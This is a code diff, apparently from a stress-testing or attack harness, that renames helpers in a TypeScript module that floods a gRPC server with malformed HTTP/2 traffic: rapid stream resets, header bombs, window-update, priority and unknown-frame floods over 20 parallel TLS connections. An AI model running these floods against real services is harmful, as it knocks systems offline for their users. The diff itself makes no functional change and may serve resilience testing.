@@ -1,4 +1,4 @@
-import { crowd, type Attack } from './attack.ts';
+import { repeatInParallel, type Attack } from './attack.ts';
 import { addressOf, isOpened, open, write } from './connection.ts';
 import { methods } from './grpc.ts';
 
@@ -71,7 +71,7 @@ const streams =
     Buffer.concat(Array.from({ length: count }, (_, at) => of(2 * (turn * count + at) + 1)));
 
 /** A number of four bytes. */
-export const four = (value: number) => {
+export const uint32 = (value: number) => {
   const bytes = Buffer.alloc(4);
   bytes.writeUInt32BE(value);
   return bytes;
@@ -80,7 +80,7 @@ export const four = (value: number) => {
 /** Calls that are reset at once. */
 const resets = (count: number, headers: Buffer): Flood =>
   streams(count, (stream) =>
-    Buffer.concat([frame(types.headers, flags.endHeaders, stream, headers), frame(types.reset, 0, stream, four(8))]),
+    Buffer.concat([frame(types.headers, flags.endHeaders, stream, headers), frame(types.reset, 0, stream, uint32(8))]),
   );
 
 const calls = (count: number, headers: Buffer): Flood =>
@@ -113,8 +113,10 @@ const floods = {
   headerBombs: streams(5, (stream) =>
     frame(types.headers, flags.endHeaders, stream, Buffer.concat([call, headerBomb])),
   ),
-  windowUpdates: repeated(1_000, frame(types.windowUpdate, 0, 0, four(1))),
-  priorities: streams(1_000, (stream) => frame(types.priority, 0, stream, Buffer.concat([four(0), Buffer.from([1])]))),
+  windowUpdates: repeated(1_000, frame(types.windowUpdate, 0, 0, uint32(1))),
+  priorities: streams(1_000, (stream) =>
+    frame(types.priority, 0, stream, Buffer.concat([uint32(0), Buffer.from([1])])),
+  ),
   unknown: repeated(1_000, frame(0xbb, 0, 0, Buffer.alloc(16))),
 } as const;
 
@@ -124,14 +126,14 @@ export type FloodName = keyof typeof floods;
 /** Floods of frames over 20 connections to gRPC; those that are closed are opened again. */
 export function frameFlood(...names: readonly FloodName[]): (attack: Attack) => Promise<void> {
   return async (attack) => {
-    const { target, tally, signal } = attack;
-    await crowd(attack, 20, async (number, round) => {
+    const { target, counter, signal } = attack;
+    await repeatInParallel(attack, 20, async (number, round) => {
       const name = names[(number + round) % names.length] ?? 'pings';
       const socket = open({ port: target.ports.grpc, tls: 'h2', from: addressOf(number % 5) });
       if (await isOpened(socket, 'secureConnect')) {
         await write(socket, Buffer.concat([preface, frame(types.settings, 0, 0)]));
-        for (let turn = 0; !signal.aborted && (await write(socket, floods[name](turn))); turn++) tally.add(name);
-        tally.add('closed');
+        for (let turn = 0; !signal.aborted && (await write(socket, floods[name](turn))); turn++) counter.add(name);
+        counter.add('closed');
       }
       socket.destroy();
     });
